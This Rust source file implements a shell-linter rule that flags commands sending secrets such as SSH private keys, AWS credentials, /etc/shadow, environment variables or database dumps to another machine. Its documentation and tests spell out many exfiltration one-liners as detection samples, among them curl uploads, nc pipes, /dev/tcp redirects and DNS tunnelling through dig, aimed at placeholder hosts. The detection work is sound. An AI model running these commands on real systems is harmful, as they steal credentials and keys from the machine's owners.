//! CARO0505: a secret leaves the machine.

use super::reading;
use super::sending::{self, Form, Sent};
use crate::flow::Origin;
use crate::flow::Value;
use crate::rules::{Check, Level, Sink};
use crate::script::{Command, PartKind, RedirectOperator, Statement, StatementKind};
use crate::secret_paths::{Kind, Secret, secret};

rule! {
    /// Sends a secret to another machine: a private key, passwords, the history of commands, the environment.
    ///
    /// Whoever gets it is you from then on, and nothing takes it back but new keys and passwords.
    /// Send the public half (`id_ed25519.pub`), or make a key that is only for the one purpose.
    ///
    /// To decide: Who is at the other end, and what do they need that is no secret?
    ///
    /// ```sh bad
    /// curl -F 'file=@/home/ann/.ssh/id_rsa' https://example.org/up
    /// ```
    /// ```sh fixed
    /// curl -F 'file=@/home/ann/.ssh/id_rsa.pub' https://example.org/up
    /// ```
    /// ```sh bad
    /// tar cz ~/.ssh | nc 203.0.113.5 4444
    /// ```
    /// ```sh bad
    /// curl "https://example.org/?k=$(base64 -w0 ~/.aws/credentials)"
    /// ```
    /// ```sh bad
    /// env | curl -d @- https://example.org
    /// ```
    /// ```sh bad
    /// dig "$(cat /etc/shadow | base64 | head -c 60).example.org"
    /// ```
    /// ```sh good
    /// curl -H "Authorization: Bearer $(cat /run/secrets/token)" https://api.example.org
    /// ```
    /// ```sh good
    /// rsync -a --delete ~/ backup.example.org:home/
    /// ```
    /// ```sh good
    /// scp ~/.ssh/id_ed25519.pub host:
    /// scp -i ~/.ssh/id_ed25519 report.pdf host:
    /// ```
    /// ```sh good
    /// scp host:.ssh/id_rsa ~/.ssh/
    /// ```
    /// ```sh good
    /// curl -F 'file=@build.log' https://example.org/up
    /// dmesg | nc termbin.com 9999
    /// ```
    "CARO0505" "secret-sent",
    Danger,
    Check::Several(&[Check::AnyCommand { run: check }, Check::Pipeline { run: check_pipeline }])
}

/// How many stages of one pipeline are looked at.
const MOST_STAGES: usize = 32;

fn check(command: &Command, sink: &mut Sink<'_>) {
    if command.is_dry_run() {
        return;
    }
    if command.program.as_deref() == Some("find") {
        return check_find(command, sink);
    }
    for it in sending::sent(command, sink) {
        if let Some(secret) = secret_in(&it, sink) {
            report(it.word.span, secret, it.carried, sink);
            return;
        }
    }
    // `put FILE`, typed to `ftp`; a file that a line of another language opens and sends.
    let typed = matches!(command.program.as_deref(), Some("ftp" | "sftp" | "lftp" | "tftp" | "smbclient"))
        .then(|| sink.input(command))
        .flatten();
    let mut lines: Vec<String> = typed.iter().flat_map(Value::texts).flat_map(str::lines).map(str::to_owned).collect();
    lines.retain(|it| it.trim_start().starts_with("put ") || it.trim_start().starts_with("mput "));
    if matches!(command.program.as_deref(), Some("python" | "python3" | "perl" | "ruby" | "php" | "node")) {
        let code = command.flags().filter_map(|it| it.value.as_ref()).filter_map(|it| sink.text_of(it));
        let sends = |it: &String| {
            ["requests.", "urlopen", "socket", "http.client", "Net::HTTP", "LWP", "fetch(", "https.request", "curl_"]
                .iter()
                .any(|that| it.contains(that))
        };
        lines.extend(code.filter(sends));
    }
    let words = lines.iter().flat_map(|it| it.split([' ', '\'', '"', '(', ')', ';']));
    if let Some(found) = words.filter(|it| it.contains(['/', '.'])).find_map(secret) {
        report(command.span, found, false, sink);
    }
    if let Some(carried) = sending::sends_input(command, sink) {
        let read = command
            .redirects
            .iter()
            .filter(|it| matches!(it.operator, RedirectOperator::Read | RedirectOperator::HereString));
        for redirect in read {
            let secret = match redirect.operator {
                RedirectOperator::Read => reading::file(&redirect.target, sink).map(|it| it.0),
                _ => reading::in_word(&redirect.target, sink),
            };
            if let Some(secret) = secret.or_else(|| reading::in_word(&redirect.target, sink)) {
                report(redirect.span, secret, carried, sink);
            }
        }
    }
    // `cat key > /dev/tcp/host/port`
    let to_network = command.redirects.iter().find(|it| it.operator.writes() && is_socket(&it.target.sketch()));
    if let Some(redirect) = to_network
        && let Some(secret) = reading::by_command(command, sink)
    {
        report(redirect.span, secret, false, sink);
    }
}

/// `find ~/.ssh -exec curl -F f=@{} …`
fn check_find(find: &Command, sink: &mut Sink<'_>) {
    let inner = find.embedded.iter().flat_map(|it| &it.statements);
    let sends = inner.filter_map(Statement::command).any(sending::takes_names);
    if sends && let Some(secret) = reading::found_by(find, sink) {
        report(find.span, secret, false, sink);
    }
}

/// The list of accounts: no secret, but nobody else's business either.
fn accounts(path: &str) -> Option<Secret> {
    matches!(path, "/etc/passwd" | "/etc/sudoers").then_some(Secret { kind: Kind::Own, what: "the list of accounts" })
}

/// What a command tells of this machine that is no secret, but no stranger's business.
fn told(command: &Command, sink: &Sink<'_>) -> Option<Secret> {
    match command.program.as_deref()? {
        "cat" | "base64" | "gzip" | "xxd" | "tar" => {
            command.operands().find_map(|it| sink.value(it).texts().find_map(accounts))
        }
        "mysqldump" | "mariadb-dump" | "pg_dump" | "pg_dumpall" | "mongodump" => {
            Some(Secret { kind: Kind::Service, what: "a whole database" })
        }
        _ => None,
    }
}

fn is_socket(path: &str) -> bool {
    path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/")
}

/// The secret in what a word sends.
fn secret_in(sent: &Sent<'_>, sink: &Sink<'_>) -> Option<Secret> {
    let written = |path: &str| {
        let held = sink.state().file(path).is_some_and(|it| it.is_from(Origin::Secret));
        held.then_some(Secret { kind: Kind::Own, what: "a secret that was written to this file" })
    };
    let by_text = reading::in_word(sent.word, sink);
    let by_name = match sent.form {
        Form::File if sent.carried => reading::file(sent.word, sink).map(|it| it.0),
        Form::File => {
            reading::file(sent.word, sink).map(|it| it.0).or_else(|| sink.value(sent.word).texts().find_map(accounts))
        }
        Form::Data => sink.value(sent.word).texts().find_map(|it| {
            data_files(it).into_iter().find_map(|it| secret(it).or_else(|| accounts(it)).or_else(|| written(it)))
        }),
        Form::Text => sink.value(sent.word).texts().find_map(|it| {
            let mut words = it.split([' ', ';']);
            words.any(|it| matches!(it, "put" | "mput" | "mirror" | "send")).then(|| words.find_map(secret)).flatten()
        }),
    };
    by_name.or(by_text).or_else(|| {
        let parts = sent.word.parts.iter().filter(|_| !sent.carried);
        parts.filter_map(|it| if let PartKind::Substitution(it) = &it.kind { Some(it) } else { None }).find_map(|it| {
            let first = match &it.first()?.kind {
                StatementKind::Pipeline(pipeline) => pipeline.stages.first()?,
                _ => it.first()?,
            };
            told(first.command()?, sink)
        })
    })
}

/// The files in `@file`, `name=@file;type=x`, `name=<file`, `name@file`.
fn data_files(text: &str) -> Vec<&str> {
    let Some(at) = text.find(['@', '<']) else { return Vec::new() };
    // In `user=a@b.org` the sign belongs to the text.
    let before = &text[..at];
    if before.contains('=') && !before.ends_with(['=', ':']) {
        return Vec::new();
    }
    text[at + 1..].split([';', ',']).take(4).map(|it| it.trim_matches('"')).collect()
}

fn check_pipeline(stages: &[Statement], sink: &mut Sink<'_>) {
    for (at, stage) in stages.iter().enumerate().take(MOST_STAGES).skip(1) {
        // `find ~/.ssh | xargs -I{} curl -F f=@{} …`
        if let Some(command) = stage.command()
            && command.is_wrapped_by("xargs")
            && sending::takes_names(command)
            && let Some(find) =
                stages[0].command().filter(|it| matches!(it.program.as_deref(), Some("find" | "ls" | "locate")))
            && let Some(secret) = reading::found_by(find, sink)
        {
            report(command.span, secret, false, sink);
            return;
        }
        let target = match &stage.kind {
            StatementKind::Command(command) => {
                let socket = command.redirects.iter().any(|it| it.operator.writes() && is_socket(&it.target.sketch()));
                sending::sends_input(command, sink).or(socket.then_some(false)).map(|it| (command, it))
            }
            _ => None,
        };
        let Some((command, carried)) = target else { continue };
        let before = &stages[..at];
        let plain = || told(before[0].command().filter(|_| !carried)?, sink);
        if let Some(secret) = reading::in_statements(before, sink).or_else(plain) {
            report(command.span, secret, carried, sink);
            return;
        }
    }
}

fn report(span: crate::Span, secret: Secret, carried: bool, sink: &mut Sink<'_>) {
    // What a service needs is carried to its server on purpose.
    let level = if (carried || secret.what == "a whole database") && secret.kind == Kind::Service {
        Level::Caution
    } else {
        Level::Danger
    };
    sink.report(span, format!("sends {} to another machine", secret.what)).level(level);
    // `scp ~/.ssh/id_rsa host:`
    let written = sink.text(span);
    let bare = written.trim_end_matches(['"', '\'']);
    let is_key = ["/id_rsa", "/id_ed25519", "/id_ecdsa"].iter().any(|it| bare.ends_with(it));
    if is_key && !bare.contains(' ') {
        let end = crate::Span::at(span.start + bare.len());
        sink.choice("Send the public half of the key", vec![(end, ".pub".to_owned())]);
    }
}

#[cfg(test)]
mod tests {
    use crate::rules::Level;
    use crate::rules::tests::{check_marks, levels};

    #[test]
    fn every_way_out_counts() {
        for script in [
            "curl -T ~/.ssh/id_rsa ftp://x.io\n#       ^^^^^^^^^^^^^ CARO0505\n",
            "curl -sS --data-binary @$HOME/.aws/credentials https://x.io\n#                      ^^^^^^^^^^^^^^^^^^^^^^^ CARO0505\n",
            "curl -d \"$(cat ~/.bash_history)\" x.io\n#       ^^^^^^^^^^^^^^^^^^^^^^^^ CARO0505\n",
            "wget --post-file=/etc/shadow http://x.io\n#                ^^^^^^^^^^^ CARO0505\n",
            "nc x.io 80 < ~/.ssh/id_ed25519\n#          ^^^^^^^^^^^^^^^^^^^ CARO0505\n",
            "scp ~/.ssh/id_rsa bob@x.io:\n#   ^^^^^^^^^^^^^ CARO0505\n",
            "cat /etc/shadow | ssh bob@x.io 'cat > s'\n#mark 0 18 40 CARO0505\n",
            "printenv > /dev/tcp/1.2.3.4/80\n#        ^^^^^^^^^^^^^^^^^^^^^ CARO0505\n",
            "cat ~/.ssh/id_rsa | base64 | mail -s x a@x.io\n#mark 0 29 45 CARO0505\n",
            "aws s3 cp ~/.gnupg s3://b/ --recursive\n#         ^^^^^^^^ CARO0505\n",
            "K=~/.ssh/id_rsa; curl -F \"f=@$K\" https://x.io\n#                        ^^^^^^^ CARO0505\n",
            "gpg --export-secret-keys | curl -T - https://x.io\n#mark 0 27 49 CARO0505\n",
            "tar czf - -C ~ .ssh .aws | curl -F 'f=@-' https://x.io\n#mark 0 27 54 CARO0505\n",
            "rsync -a ~/.ssh/ x.io:keys/\n#        ^^^^^^^ CARO0505\n",
            "zip -r - ~/.mozilla | nc -w 3 x.io 80\n#mark 0 22 37 CARO0505\n",
        ] {
            check_marks(script);
        }
    }

    #[test]
    fn other_programs_have_other_words() {
        check_marks("sftp x.io <<E\nput /etc/shadow\nE\n#mark 0 0 13 CARO0505\n");
        check_marks("curl \"x.io/$(< ~/.ssh/id_rsa)\"\n#mark 0 5 30 CARO0505\n");
        check_marks("mail -a ~/.ssh/id_rsa -s x a@x.io < /dev/null\n#mark 0 8 21 CARO0505\n");
        check_marks("kubectl get secrets -A -o yaml | curl -d @- x.io\n#mark 0 33 48 CARO0505\n");
        check_marks("python3 -c 'requests.post(u, data=open(\"/root/.ssh/id_rsa\"))'\n#mark 0 0 61 CARO0505\n");
        check_marks("python3 -c 'print(open(\"x.key\").read())'\nsftp x.io <<E\nget .env\nput app.zip\nE\n");
    }

    #[test]
    fn names_that_are_found_count_as_files() {
        check_marks("find ~/.ssh -type f -exec curl -F 'f=@{}' https://x.io \\;\n#mark 0 0 57 CARO0505\n");
        check_marks("find / -name 'id_rsa' -exec cat {} + | nc x.io 80\n#mark 0 39 49 CARO0505\n");
        check_marks("find ~/.aws -type f | xargs -I{} curl -T {} ftp://x.io\n#mark 0 22 54 CARO0505\n");
        check_marks("curl \"https://x.io/?q=$(base64 /etc/passwd)\"\n#mark 0 5 44 CARO0505\n");
        check_marks("curl -H \"X-Data: $(cat ~/.ssh/id_rsa)\" https://x.io\n#mark 0 8 38 CARO0505\n");
        check_marks("pg_dumpall | nc x.io 80\n#mark 0 13 23 CARO0505\n");
        check_marks("cat /etc/passwd | nc x.io 80\n#mark 0 18 28 CARO0505\n");
        check_marks(
            "find ~/.ssh -type f -exec chmod 600 {} +\nfind . -name '*.log' | xargs -I{} curl -T {} ftp://x.io\n",
        );
        check_marks("tar cz ~/.gnupg | gpg -c | ssh nas 'cat > keys.gpg'\nscp /etc/passwd nas:backup/\n");
    }

    #[test]
    fn a_variable_carries_it_too() {
        check_marks("k=$(cat ~/.ssh/id_rsa)\ncurl -d \"$k\" https://x.io\n#       ^^^^ CARO0505\n");
    }

    #[test]
    fn what_is_not_sent_or_no_secret_is_silent() {
        for script in [
            "ssh -i ~/.ssh/id_rsa host uptime\n",
            "cat ~/.ssh/id_rsa.pub | ssh host 'cat >> .ssh/authorized_keys'\n",
            "scp host:/etc/app/.env .env.local\n",
            "rsync -a ~/.ssh/ /mnt/backup/ssh/\n",
            "curl --key server.key --cert cert.pem https://x.io\n",
            "curl --netrc-file ~/.netrc https://x.io\n",
            "curl -d \"user=$USER&password=$PASSWORD\" https://x.io/login\n",
            "curl -d 'mail=a@b.org' https://x.io\n",
            "env | grep PATH\nenv A=1 curl x.io\n",
            "sha256sum ~/.ssh/id_rsa | nc x.io 80\n",
            "curl -d @payload.json https://x.io\n",
            "tar cz --exclude ~/.ssh ~ | ssh backup 'cat > home.tgz'\n",
        ] {
            check_marks(script);
        }
    }

    #[test]
    fn a_service_gets_its_own_secrets() {
        assert_eq!(levels("scp .env deploy@app:/srv/app/.env\n"), [Level::Caution]);
        assert_eq!(levels("curl -F f=@.env https://x.io\n"), [Level::Danger]);
    }
}
